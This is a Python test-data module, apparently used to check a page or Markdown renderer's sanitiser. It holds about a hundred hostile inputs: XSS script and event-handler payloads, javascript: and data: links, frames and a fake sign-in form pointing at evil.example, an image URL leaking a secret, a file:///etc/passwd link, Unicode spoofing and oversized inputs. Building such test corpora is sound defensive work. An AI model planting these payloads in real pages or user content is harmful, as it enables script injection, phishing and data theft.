"""A hundred texts that somebody could write who wants the page to do what it should
not: run something, load something, or look like something else."""

SCRIPTS = [
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    "<script type=module>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>",
    "--><script>window.hit=1</script><!--",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
    "<template><script>window.hit=1</script></template>",
    "<svg><script>window.hit=1</script></svg>",
    "<math><mtext><script>window.hit=1</script></mtext></math>",
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    "java\tscript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "vbscript:msgbox(1)",
    "';window.hit=1;//",
    "\";window.hit=1;//",
    "`;window.hit=1;//",
    "${window.hit=1}",
    "{{constructor.constructor('window.hit=1')()}}",
    "<%= window.hit=1 %>",
]
HANDLERS = [
    f"<{tag} {event}=window.hit=1>"
    for tag, event in [
        ("img src=x", "onerror"),
        ("svg", "onload"),
        ("body", "onload"),
        ("details open", "ontoggle"),
        ("input autofocus", "onfocus"),
        ("video><source", "onerror"),
        ("audio src=x", "onerror"),
        ("marquee", "onstart"),
        ("iframe src=x", "onload"),
        ("object data=x", "onerror"),
        ("a href=#", "onclick"),
        ("div style=animation-name:x", "onanimationstart"),
    ]
]
FRAMES = [
    "<iframe src=javascript:window.hit=1></iframe>",
    "<iframe srcdoc='<script>top.hit=1</script>'></iframe>",
    "<object data='javascript:window.hit=1'></object>",
    "<embed src=//evil.example/x.swf>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>",
    "<portal src=//evil.example>",
]
STYLES = [
    "<style>*{display:none!important}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "</style><style>body{visibility:hidden}</style>",
    "<p class=fault role=alert>Your session has ended</p>",
]
LINKS = [
    "[x](javascript:window.hit=1)",
    "[x](JAVASCRIPT:window.hit=1)",
    "[x](java&#10;script:window.hit=1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "![x](//evil.example/x.png)",
    "![x](https://evil.example/x.png?secret)",
    "![](http://127.0.0.1:1/x.svg)",
    "[![x](https://evil.example/x.png)](javascript:window.hit=1)",
    "<https://evil.example/\u202egood.example>",
    "[x]: javascript:window.hit=1\n\n[x]",
    "<a href=javascript:window.hit=1>x</a>",
    "https://good.example@evil.example/",
    "[good.example](https://evil.example)",
]
MARKS = [
    "\u202egpj.exe\u202c",
    "\u2066x\u2069\u2067y",
    "a\u200bb\u200cc\u200d\ufeff",
    "\u0007\u001b[31mred\u001b[0m",
    "\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007",
    "e" + "\u0301" * 300,
    "Z\u0351\u036bA\u0334\u0321L\u0321GO",
    "\u2028line\u2029paragraph",
    "\U000e0041\U000e0042 tags",
    "\ufff9a\ufffab\ufffb",
    "pass\u034f\u17b4\u180b\ufe00\u2065\U000e0080\U000e0100\U0001d159\u3164\u115f\uffa0\ufffcword",
    "مرحبا <b>x</b>",
    "שלום \u202a<i>x</i>",
    "👩‍👩‍👧‍👦" * 50,
    "аррӏе.com",
]
LARGE = [
    "a" * 20_000,
    "long word " + "x" * 5000,
    "<" * 5000,
    ">" * 3000 + " deep",
    "*" * 5000,
    "[" * 3000,
    "`" * 3000,
    "- " * 2000,
    "|" + "a|" * 500 + "\n|" + "-|" * 500,
    "1. " * 1000,
    "#" * 2000,
    "\n" * 2000 + "x",
]
ODD = [
    "<!-- <b>x</b>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&amp;lt;img src=x onerror=window.hit=1&amp;gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.hit=1",
    "__proto__",
    "constructor",
]

TEXTS = [*SCRIPTS, *HANDLERS, *FRAMES, *STYLES, *LINKS, *MARKS, *LARGE, *ODD]
assert len(TEXTS) == len(set(TEXTS)) >= 100, len(TEXTS)
